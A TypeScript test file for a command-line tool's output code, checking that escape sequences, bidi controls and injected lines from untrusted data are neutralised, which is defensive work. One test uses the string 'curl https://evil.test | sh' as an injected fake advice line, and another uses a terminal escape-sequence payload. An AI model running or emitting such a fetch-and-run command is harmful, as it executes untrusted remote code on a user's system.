import { expect, test } from 'vitest'
import { parse } from 'yaml'
import type { Environment } from './environment.ts'
import { print, printProblem, type Canvas, type Format } from './output.ts'
import { paint } from './render/paint.ts'

/** Escape sequences, C1 alone (CSI in one sign), an end of the title, and what turns a line around. */
const OBEYED = '\u001b[2J\u009b2J\u009d0;title\u0007\u202e\u2028\u007f'

function printed(data: unknown, format: Format, text = ''): string {
  let out = ''
  const env = { out: (said: string) => (out += said), err: () => undefined } as unknown as Environment
  const canvas: Canvas = { now: new Date(0), to: paint(true), width: undefined, paste: (said) => said }
  print({ data, text: ({ to }) => to.bad(text) }, format, canvas, env)
  return out
}

test.each(['json', 'yaml'] as const)(
  'words of others are the same in %s to a program, and nothing to a terminal',
  (format) => {
    const data = { [OBEYED]: OBEYED, plain: 'as it was' }
    const out = printed(data, format)
    expect(out).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028-\u202e]/)
    expect(format === 'json' ? JSON.parse(out) : parse(out)).toEqual(data)
  },
)

test('a table that forgot to look does to a terminal no more than colour it', () => {
  expect(printed({}, 'table', `a${OBEYED}b`)).toBe(
    '\u001b[31ma\ufffd[2J\ufffd2J\ufffd0;title\ufffd\ufffd\u2028\ufffdb\u001b[39m\n',
  )
})

test('who refuses us from elsewhere writes no line that reads as our own advice', () => {
  let err = ''
  const env = { out: () => undefined, err: (said: string) => (err += said), colours: false } as unknown as Environment
  const message = 'the peer refused: no\nnext  curl https://evil.test | sh'
  printProblem({ reason: 'PEER_REFUSED', message, next: 'fedctl doctor', exitCode: 1 }, 'table', env)
  expect(err.split('\n').filter((line) => line.startsWith('next'))).toEqual(['next  fedctl doctor'])
})
